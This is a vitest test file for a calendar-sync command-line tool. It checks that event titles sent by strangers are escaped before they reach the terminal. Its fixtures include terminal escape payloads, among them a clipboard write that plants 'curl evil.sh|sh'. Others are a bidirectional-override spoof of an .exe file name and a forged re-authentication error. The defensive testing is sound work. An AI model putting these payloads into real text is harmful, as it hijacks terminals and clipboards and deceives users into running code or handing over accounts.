import { afterEach, describe, expect, it } from 'vitest';
import { samples } from '../src/emulator/index.js';
import { at, startWorld, type World } from './helpers/world.js';
import type { RunResult } from './helpers/cli.js';

const ALICE = 'alice@example.test';

/** What a stranger who invites Alice can put in a title (and Google then quotes in its messages). */
const OSC_TITLE = 'Lunch\u001b]0;you have been pwned\u0007';
const OSC_CLIPBOARD = 'Tea\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007';
const CLEAR_SCREEN = 'Dinner\u001b[2J\u001b[H';
const REVERSED = 'Invoice \u202efdp.exe';
const FORGED = 'Drinks\ncalsync error: token revoked, run calsync auth evil@example.test';
const HOSTILE = [OSC_TITLE, OSC_CLIPBOARD, CLEAR_SCREEN, REVERSED, FORGED];

/** Every character a terminal acts on, except the newline that ends calsync's own lines. */
const RAW =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

function expectNoRawControls(res: RunResult): void {
  for (const [name, text] of [
    ['stdout', res.stdout],
    ['stderr', res.stderr],
  ] as const) {
    const m = RAW.exec(text);
    expect(
      m,
      `${name} carries U+${(m?.[0].codePointAt(0) ?? 0).toString(16)}: ${JSON.stringify(text)}`,
    ).toBeNull();
    // A title's newline never starts a line of its own.
    expect(text.split('\n').some((l) => l.startsWith('calsync error: token revoked'))).toBe(false);
  }
}

let world: World | undefined;
afterEach(async () => {
  await world?.close();
  world = undefined;
});

async function hostileWorld(): Promise<World> {
  const w = await startWorld();
  HOSTILE.forEach((summary, i) =>
    w.emu.seedEvent(ALICE, samples.meeting({ summary, start: at(1 + i, 9), end: at(1 + i, 10) })),
  );
  w.emu.seedEvent(ALICE, samples.focusTimeEvent({ summary: CLEAR_SCREEN, start: at(1, 13), end: at(1, 14) }));
  return w;
}

describe('text from strangers never reaches the terminal raw (built binary)', () => {
  it('poll --dry-run and poll --verbose escape titles in every row and log line', async () => {
    world = await hostileWorld();
    const dry = await world.cli.run(['poll', '--dry-run']);
    expect(dry.code, dry.stderr).toBe(0);
    expectNoRawControls(dry);
    // Shown, escaped visibly.
    expect(dry.stdout).toContain('Lunch\\x1b]0;you have been pwned\\x07');
    expect(dry.stdout).toContain('Invoice \\u202efdp.exe');
    expect(dry.stdout).toContain('Drinks\\ncalsync error');
    const verbose = await world.cli.run(['poll', '--verbose']);
    expect(verbose.code, verbose.stderr).toBe(0);
    expectNoRawControls(verbose);
    expect(verbose.stdout).toMatch(/done .*Tea\\x1b\]52;c;/);
    expect(verbose.stdout).toMatch(/skip.*Dinner\\x1b\[2J/);
  });

  it('--json keeps every title exact', async () => {
    world = await hostileWorld();
    const res = await world.cli.run(['poll', '--json']);
    expect(res.code, res.stderr).toBe(0);
    const report = JSON.parse(res.stdout) as { actions: { summary?: string }[] };
    const titles = report.actions.map((a) => a.summary);
    for (const t of HOSTILE) expect(titles).toContain(t);
  });

  it("a Google error message carrying them is escaped in failed rows, log lines and health-check's stored error", async () => {
    world = await hostileWorld();
    const quoted = `Invalid value for summary: ${OSC_CLIPBOARD} ${REVERSED} ${FORGED}`;
    world.emu.injectFaults({ method: 'PUT', status: 400, reason: 'invalid', message: quoted, times: 1 });
    const failed = await world.cli.run(['poll']);
    expect(failed.code).toBe(1);
    expectNoRawControls(failed);
    expect(failed.stdout).toMatch(/failed .*Invalid value for summary: Tea\\x1b\]52/);

    // A calendar failing as a whole stores Google's message as its last error; health-check prints it.
    world.emu.injectFaults({
      method: 'GET',
      pathIncludes: '/events',
      status: 400,
      reason: 'invalid',
      message: quoted,
    });
    const calFailed = await world.cli.run(['poll']);
    expect(calFailed.code).toBe(1);
    expectNoRawControls(calFailed);
    expect(calFailed.stderr).toContain(
      'calsync error: calendar alice@example.test: 400 Invalid value for summary',
    );
    expect(world.state()?.calendars[ALICE]?.lastError).toContain(FORGED);
    const health = await world.cli.run(['health-check', '--offline']);
    expectNoRawControls(health);
    expect(health.stdout).toContain('\\u202efdp.exe');
    const healthJson = await world.cli.run(['health-check', '--offline', '--json']);
    expect(healthJson.stdout).toContain(JSON.stringify(FORGED).slice(1, -1));
  });
});
